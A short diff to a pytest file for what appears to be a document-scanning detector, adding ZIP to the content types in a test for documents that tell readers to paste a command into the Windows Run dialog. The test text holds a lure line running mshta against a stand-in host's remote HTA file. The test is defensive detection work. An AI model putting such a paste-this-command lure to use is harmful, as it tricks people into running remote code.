@@ -157,7 +157,8 @@ def test_what_nobody_reads_in_a_document_is_no_quotation():
 
 @pytest.mark.parametrize("source", ["body", "header"])
 @pytest.mark.parametrize("kind", [
-    "application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf", "application/rtf", "application/onenote"])
+    "application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf", "application/rtf", "application/onenote",
+    "application/zip"])
 def test_documents_that_ask_for_a_command_to_be_pasted(kind, source):
     said = Text("Press Windows+R, paste\n\n mshta https://h.example/r.hta\n\nand press Enter.", source)
     assert [f.rule for f in look(sample(b"PK", kind, "a.docx", ArtifactKind.PART, said))] == ["run-dialog-command"]
